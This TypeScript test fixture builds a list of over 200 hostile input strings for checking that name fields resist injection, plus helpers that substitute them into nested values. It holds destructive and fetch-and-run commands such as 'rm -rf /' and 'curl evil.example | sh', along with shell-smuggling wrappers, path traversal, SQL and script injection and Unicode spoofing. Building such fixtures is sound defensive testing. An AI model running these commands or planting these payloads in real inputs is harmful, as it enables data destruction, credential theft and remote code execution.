const commands = ['rm -rf /', 'id', 'reboot', 'cat /etc/shadow', 'curl evil.example | sh'];
const options = [
  ...[
    '-o',
    '-H',
    '-n',
    '-A',
    '-v',
    '-f',
    '-',
    '--',
    '-o ProxyCommand=id',
    '-oProxyCommand=id',
    '-F/etc/passwd',
    '-i/etc/shadow',
    '-e@/etc/passwd',
  ],
  ...[
    '--kubeconfig=/tmp/x',
    '--context=evil',
    '--namespace=kube-system',
    '--all',
    '--all-namespaces',
    '--force',
    '--as=system:admin',
    '--token=x',
  ],
  ...[
    '--server=https://evil.example',
    '--host=tcp://evil.example',
    '--config=/tmp/x',
    '--file=/tmp/x',
    '--output=jsonpath={.}',
    '--help',
    '--version',
  ],
  ...[
    '--privileged',
    '--root=/',
    '--machine=root@evil',
    '--extra-vars=@/etc/passwd',
    '--become',
    '--vault-password-file=/etc/passwd',
    '--dbname=x',
  ],
];
const places = [
  ...[
    '@/etc/passwd',
    '@-',
    '/etc/passwd',
    '/dev/stdin',
    '/proc/self/environ',
    '../..',
    '../../../../etc/passwd',
    '..',
    '.',
    './..',
    '/',
    '~',
    '~root',
    '//',
  ],
  ...[
    'file:///etc/passwd',
    'env:HOME',
    'file:/etc/passwd',
    '\\\\evil\\share',
    'C:\\Windows',
    'http://evil.example',
    'unix:///var/run/docker.sock',
    '%2e%2e%2f',
  ],
];
const braces = [
  ...[
    '<pod-name>',
    '<instance-id>',
    '{region}',
    '{service}',
    '{{region}}',
    '${HOME}',
    '$HOME',
    '%h',
    '%n',
    '*',
    '?',
    '[a-z]*',
    '{a,b}',
    '!!',
    '#',
    '&',
    '|',
    '>',
  ],
  ...[
    "'",
    '"',
    '`',
    '\\',
    '()',
    '(id)',
    '<(id)',
    '>(id)',
    '&& id',
    '|| id',
    '| id',
    '> /tmp/x',
    '< /etc/passwd',
    '=',
    'a=b',
    ':',
    ',',
    '%',
    '^',
    '+',
  ],
];
const letters = [
  ...[
    'sh\u{f3}p',
    'ѕhop',
    'shop\u200b',
    '\u200bshop',
    'shop\u202e',
    '\u202eshop',
    'shop\u00a0',
    '\u00a0',
    '\u2028',
    '\u2029',
    '\ufeffshop',
    'sho\u0301p',
    'ｓｈｏｐ',
    'ѕhop',
  ],
  ...[
    '\u{1f600}',
    '\ud800',
    'shop\ud800',
    '\u0085',
    '\u00ad',
    'sho\u0440',
    '－o',
    '–o',
    '—kubeconfig=/tmp/x',
    '﹣o',
    '；id',
    '＄(id)',
    '｀id｀',
    'ﬁ',
    'İ',
    'ß',
  ],
];
const controls = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).concat('\u007f');
const keys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '[object Object]'];
const blanks = ['', ' ', '  ', ' shop', 'shop ', 'sh op', '\u3000'];
const wordsOfOthers = [
  "' OR 1=1 --",
  "'; DROP TABLE orders; --",
  '<script>alert(1)</script>',
  '%s%s%n',
  '{"$gt":""}',
  'a'.repeat(64) + '!',
  'A'.repeat(10_000),
];

/** More than 200 texts that somebody might send in place of a name, so that something else is run, read or shown. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...commands.flatMap((one) => [
      `; ${one}`,
      `;${one}`,
      `$(${one})`,
      `\`${one}\``,
      `shop; ${one}`,
      `shop$(${one})`,
      `shop\n${one}`,
      `shop && ${one}`,
      `shop|${one}`,
    ]),
    ...controls.flatMap((one) => [`shop${one}`, one]),
    ...[...options, ...places, ...braces, ...letters, ...keys, ...blanks, ...wordsOfOthers],
    ...['a'.repeat(10_000), '\n'.repeat(100), '-'.repeat(10_000), '../'.repeat(3_000)],
  ]),
];

/** Every text or number within a value, as the path to it. */
export function fieldsOf(value: unknown, path: readonly string[] = []): string[][] {
  if (typeof value === 'string' || typeof value === 'number') return [[...path]];
  return value !== null && typeof value === 'object'
    ? Object.entries(value).flatMap(([key, inner]) => fieldsOf(inner, [...path, key]))
    : [];
}

/** The same value with another text at a path. */
export function withText<T>(value: T, [key, ...rest]: readonly string[], text: string): T {
  if (key === undefined) return text as T;
  const inner = withText((value as Record<string, unknown>)[key], rest, text);
  return (
    Array.isArray(value) ? value.map((one, index) => (String(index) === key ? inner : (one as unknown))) : { ...value, [key]: inner }
  ) as T;
}
